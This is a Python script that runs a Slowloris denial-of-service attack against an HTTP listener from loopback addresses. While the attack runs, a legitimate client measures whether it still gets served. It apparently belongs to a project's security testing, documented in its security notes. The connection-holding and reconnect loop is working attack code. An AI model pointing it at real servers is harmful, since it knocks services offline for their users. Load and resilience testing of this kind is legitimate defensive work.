#!/usr/bin/env python3
"""Slowloris against an HTTP listener, with a legitimate client measuring what it is served.

Opens CONNECTIONS connections to TARGET, from SOURCES loopback addresses (127.0.0.2 and up, or
from FIRST_SOURCE; the legitimate client uses 127.0.0.1), each sending a request line and then one header byte every
INTERVAL seconds, never finishing its headers; a connection the server closes is opened again at
once. Meanwhile a legitimate client sends an authenticated GET every PROBE_EVERY seconds on a new
connection, PROBE_TIMEOUT seconds allowed. Prints what the attackers held and how many requests
were served, as one line of key=value (docs/security.md, "Slowloris").

  python3 scripts/slowloris.py --target 127.0.0.1:9465 --path /api/v1/status --token TOKEN \
      --connections 2200 --interval 8 --duration 30 --sources 1
"""
import argparse
import http.client
import resource
import selectors
import socket
import threading
import time


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("--target", required=True, help="HOST:PORT of the listener")
    p.add_argument("--path", default="/api/v1/status")
    p.add_argument("--token", default="", help="bearer token of the legitimate client")
    p.add_argument("--connections", type=int, default=2200)
    p.add_argument("--interval", type=float, default=8.0, help="seconds between an attacker's header bytes")
    p.add_argument("--duration", type=float, default=30.0, help="seconds of attack after the connections are opened")
    p.add_argument("--sources", type=int, default=1, help="attacker source addresses (127.0.0.2 …)")
    p.add_argument("--first-source", type=int, default=2, help="the first source address's last byte (1: the legitimate client's own)")
    p.add_argument("--probe-every", type=float, default=1.0)
    p.add_argument("--probe-timeout", type=float, default=5.0)
    a = p.parse_args()
    host, port = a.target.rsplit(":", 1)
    port = int(port)
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))

    sel = selectors.DefaultSelector()
    stats = {"opened": 0, "closed_by_server": 0, "refused": 0}
    conns = {}  # socket -> source index

    request = ("GET %s HTTP/1.1\r\nHost: %s\r\n" % (a.path, host)).encode()

    def open_one(k):
        """Connects (blocking, 1 s at most: the kernel completes the handshake while the
        server's backlog has room) and sends the request line; the headers never end."""
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.settimeout(1.0)
        try:
            s.bind(("127.0.0.%d" % (a.first_source + k % a.sources), 0))
            s.connect((host, port))
            s.sendall(request)
        except OSError:
            s.close()
            stats["refused"] += 1
            return
        s.setblocking(False)
        conns[s] = k
        sel.register(s, selectors.EVENT_READ)
        stats["opened"] += 1

    def send(s, data):
        try:
            s.send(data)
            return True
        except (BlockingIOError, InterruptedError):
            return True
        except OSError:
            return False

    def drop(s):
        sel.unregister(s)
        k = conns.pop(s)
        s.close()
        return k

    for k in range(a.connections):
        open_one(k)
    opened_at = time.monotonic()

    probes = []
    stop = threading.Event()

    def probe():
        while not stop.is_set():
            t0 = time.monotonic()
            status = None
            try:
                c = http.client.HTTPConnection(host, port, timeout=a.probe_timeout, source_address=("127.0.0.1", 0))
                c.request("GET", a.path, headers={"Authorization": "Bearer " + a.token} if a.token else {})
                status = c.getresponse().status
                c.close()
            except OSError:
                pass
            probes.append((status, time.monotonic() - t0))
            stop.wait(max(0.0, a.probe_every - (time.monotonic() - t0)))

    prober = threading.Thread(target=probe)
    prober.start()
    held = []
    next_byte = time.monotonic() + a.interval
    end = opened_at + a.duration
    while time.monotonic() < end:
        lost = []
        for key, _ in sel.select(timeout=0.2):
            s = key.fileobj
            try:
                data = s.recv(4096)
            except (BlockingIOError, InterruptedError):
                continue
            except OSError:
                data = b""
            if not data:  # closed (or answered and closed) by the server
                stats["closed_by_server"] += 1
                lost.append(drop(s))
        if time.monotonic() >= next_byte:
            for s in list(conns):
                if not send(s, b"X"):
                    stats["closed_by_server"] += 1
                    lost.append(drop(s))
            next_byte += a.interval
        for k in lost:  # open another, as a real attacker does
            open_one(k)
        held.append(len(conns))
    stop.set()
    prober.join()
    for s in list(conns):
        drop(s)
    served = [d for st, d in probes if st is not None]
    statuses = sorted({st for st, _ in probes if st is not None})
    print(
        "connections=%d sources=%d interval_s=%g duration_s=%g attackers_open_max=%d attackers_opened=%d "
        "attacker_connects_failed=%d closed_by_server=%d probes=%d served=%d statuses=%s served_latency_max_s=%.3f failed=%d"
        % (
            a.connections, a.sources, a.interval, a.duration, max(held or [0]), stats["opened"], stats["refused"], stats["closed_by_server"],
            len(probes), len(served), ",".join(map(str, statuses)) or "-", max(served or [0.0]), len(probes) - len(served),
        )
    )


if __name__ == "__main__":
    main()
